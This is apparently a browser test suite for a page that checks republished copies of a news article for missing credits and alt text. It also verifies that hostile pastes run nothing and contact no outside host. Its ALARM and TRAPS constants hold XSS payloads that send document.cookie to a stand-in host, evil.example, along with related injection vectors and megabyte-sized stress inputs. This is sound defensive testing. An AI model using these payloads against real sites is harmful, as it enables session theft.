/** The page that checks a copy, as an editor uses it, and as somebody abuses it. */
import { writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOCALES } from '../src/model/locale.ts';
import { newPage, type WatchedPage } from './support/browser.ts';
import { readDist } from './support/html.ts';
import { below } from './support/pages.ts';

const SLUG = 'the-deal';
const MEGABYTE = 1_000_000;
/** What belongs to the page itself. */
const ASSET = /^\/(_astro\/|favicon)/;
const fill = (part: string) => part.repeat(Math.ceil(MEGABYTE / part.length));
const article = (format: string, locale: (typeof LOCALES)[number] = 'en') =>
  readDist(below(locale, `articles/${SLUG}/article.${format}`));

let watched: WatchedPage;
let requests: string[] = [];
beforeAll(async () => {
  watched = await newPage();
  watched.page.on('request', (request) => requests.push(request.url()));
});
afterAll(() => watched.close());

/** Opens the page anew, and chooses the article. */
async function open(locale: (typeof LOCALES)[number] = 'en'): Promise<Page> {
  const { page } = watched;
  await page.goto(`${below(locale, 'republish/check/')}?article=${SLUG}`);
  requests = [];
  return page;
}

/** Pastes a text as systems do: plain words for the field, and what is behind them. */
async function paste(page: Page, behind: string, plain: string): Promise<void> {
  await page.locator('#check-text').evaluate(
    (element, texts) => {
      const field = element as HTMLTextAreaElement;
      field.value = '';
      const data = new DataTransfer();
      data.setData('text/html', texts.behind);
      data.setData('text/plain', texts.plain);
      field.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data }));
      field.value = texts.plain;
    },
    { behind, plain },
  );
}

/** Checks what is in the field: which kinds were found, and what the page says. */
async function findings(page: Page): Promise<{ kinds: string[]; says: string }> {
  await page.locator('#check-form button').click();
  await page.locator('#check-status[data-state]').waitFor();
  return {
    kinds: await page
      .locator('#check-findings > li')
      .evaluateAll((all) => all.map((one) => (one as HTMLElement).dataset.kind ?? '')),
    says: (await page.locator('#check-status').textContent()) ?? '',
  };
}

/** Checks a text that is put into the field. */
async function check(page: Page, text: string): Promise<{ kinds: string[]; says: string }> {
  await page.locator('#check-text').fill(text);
  return findings(page);
}

describe.each(LOCALES)('an editor (%s)', (locale) => {
  it('learns that a copy is whole, and which line is missing where it is not', async () => {
    const page = await open(locale);
    const html = article('html', locale);
    const whole = await check(page, html);
    expect(whole.kinds).toEqual([]);
    expect(whole.says).not.toBe('');
    const { kinds } = await check(
      page,
      html
        .replaceAll('The CECOT Deal team', 'us')
        .replaceAll('Equipo de El acuerdo del CECOT', 'nos'),
    );
    expect(kinds).toEqual(['credit']);
    const said = await page.locator('#check-findings').textContent();
    const { attribution } = JSON.parse(article('json', locale)) as { attribution: string };
    expect(said).toContain(attribution);
    expect(
      new Set(
        requests.map((address) => new URL(address).pathname).filter((path) => !ASSET.test(path)),
      ),
    ).toEqual(new Set([below(locale, `articles/${SLUG}/article.json`)]));
  });
});

it('opens a saved file, and reads the other language', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'copy-'));
  const file = join(folder, 'saved.html');
  writeFileSync(file, article('html', 'es'));
  const page = await open();
  await page.locator('#check-language').selectOption({ index: 1 });
  await page.locator('#check-file').setInputFiles(file);
  await expect.poll(() => page.locator('#check-text').inputValue()).toContain('<h1>');
  await page.locator('#check-form button').click();
  await page.locator('#check-status[data-state=good]').waitFor();
  rmSync(folder, { recursive: true });
});

it('reads what was pasted with its formatting, while the field shows plain words', async () => {
  const page = await open();
  const html = article('html').replace(/alt="[^"]*"/, 'alt=""');
  await paste(page, html, article('txt'));
  expect((await findings(page)).kinds).toEqual(['alt']);
});

it('checks against a version that is named', async () => {
  const page = await open();
  await page.locator('#check-version').evaluate((select) => {
    (select as HTMLSelectElement).add(new Option('1', '1'));
  });
  await page.locator('#check-version').selectOption('1');
  expect((await check(page, article('txt'))).kinds.filter((kind) => kind !== 'changes')).toEqual(
    [],
  );
  expect(
    requests.map((address) => new URL(address).pathname).filter((path) => !ASSET.test(path)),
  ).toEqual([`/articles/${SLUG}/v1.json`]);
});

it('says so when there is nothing to check, and when the article cannot be fetched', async () => {
  const page = await open();
  await page.locator('#check-form button').click();
  await expect.poll(() => page.locator('#check-status').textContent()).toMatch(/Paste/);
  await page.route('**/article.json', (route) => route.abort());
  await page.locator('#check-text').fill('Some words');
  await page.locator('#check-form button').click();
  await expect
    .poll(() => page.locator('#check-status').textContent())
    .toMatch(/not be fetched|could not/);
  await page.unroute('**/article.json');
  watched.seen.failed.length = 0;
  watched.seen.console.length = 0;
});

const ALARM =
  'window.ran=1;document.body.append(`ran`);fetch(`https://evil.example/?${document.cookie}`)';
const TRAPS = [
  `<script>${ALARM}</script>`,
  `<img src="https://evil.example/a.png" onerror="${ALARM}">`,
  `<svg onload="${ALARM}"><style>@import url(https://evil.example/a.css)</style></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>" src="https://evil.example/"></iframe>`,
  `<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/b">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  `<video src="https://evil.example/a.mp4" autoplay></video><object data="https://evil.example/"></object>`,
  `<form action="https://evil.example/"><input autofocus onfocus="${ALARM}"></form><a href="javascript:${ALARM}">x</a>`,
].join('');

/** A megabyte each of what costs careless code most. */
const HOSTILE: Readonly<Record<string, string>> = {
  'tags in tags': fill('<div><b><figure><table><td>'),
  traps: fill(TRAPS),
  'tags that never end': fill('<a <b "'),
  entities: `<p>${fill('&amp;&#x41;&nbsp;&CounterClockwiseContourIntegral;')}`,
  'brackets of Markdown': fill('![['),
  'targets of Markdown': fill(']('),
  points: `x ${fill('.')}`,
  'ends of sentences': fill('A. '),
  digits: fill('1'),
  'numbers with spaces': fill('111 '),
  'numbers with points': fill('1.111,'),
  addresses: fill('http://'),
  'quotation marks': fill('“a '),
  tabs: fill('a\t1\n'),
  'letters with accents': fill('a\u0301\u0302\u0303'),
  'letters that unfold': fill('\uFDFA'),
  'one sentence of the article, again and again': fill(
    'It was Rubio’s first trip abroad in the post, a tour of Central America to win support. ',
  ),
};

describe('a megabyte of', () => {
  it.each(Object.entries(HOSTILE))(
    '%s is checked, runs nothing and asks nobody',
    async (_, text) => {
      const page = await open();
      expect(text.length).toBeGreaterThanOrEqual(MEGABYTE);
      // Behind plain words: to lay a megabyte out in a field takes a browser longer than the check.
      await paste(page, text, 'A few words.');
      const { kinds } = await findings(page);
      expect(kinds.length).toBeGreaterThan(0);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
      expect(
        requests.filter((address) => !/\/(_astro|favicon)|\/article\.json$/.test(address)),
      ).toEqual([]);
      expect(watched.seen.crossOrigin).toEqual([]);
      expect(new URL(page.url()).pathname).toBe('/republish/check/');
    },
  );

  it('traps around an honest copy does no harm to it either', async () => {
    const page = await open();
    const { kinds } = await check(page, `<html><body>${article('html')}${TRAPS}</body></html>`);
    expect(kinds).toEqual([]);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    expect(watched.seen.crossOrigin).toEqual([]);
  });
});

it('without JavaScript the page says what to look for', async () => {
  const { page, close } = await newPage({ js: false });
  await page.goto('/republish/check/');
  expect(await page.locator('#check-form').isVisible()).toBe(false);
  expect(await page.locator('.needs-no-js').isVisible()).toBe(true);
  expect(await page.locator('.check-page li').count()).toBeGreaterThanOrEqual(10);
  await close();
});
